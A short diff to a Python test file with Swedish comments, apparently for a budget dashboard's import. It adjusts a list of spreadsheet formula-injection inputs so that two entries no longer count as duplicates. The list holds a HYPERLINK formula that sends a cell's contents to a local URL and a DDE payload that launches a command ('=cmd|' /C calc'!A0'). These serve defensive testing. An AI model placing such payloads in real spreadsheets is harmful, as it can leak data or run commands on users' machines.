@@ -27,9 +27,10 @@ from .conftest import DASHBOARD
 
 FARLIGA = ("=", "+", "-", "@", "\t", "\r")
 HYPERLANK = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Klicka här")'
-POSTER = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
-# Inläsningen tar bort omgivande blanktecken: "\t=1" och "\r=1" lagras som "=1".
-LAGRADE = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "=1", "=1", "=cmd|' /C calc'!A0"]
+POSTER = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=2", "=cmd|' /C calc'!A0"]
+# Inläsningen tar bort omgivande blanktecken: "\t=1" och "\r=2" lagras som "=1" och "=2" (två poster med samma
+# namn vore en dubblett, som kontrollen vägrar).
+LAGRADE = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "=1", "=2", "=cmd|' /C calc'!A0"]
 
 
 def _budgetfil() -> bytes:
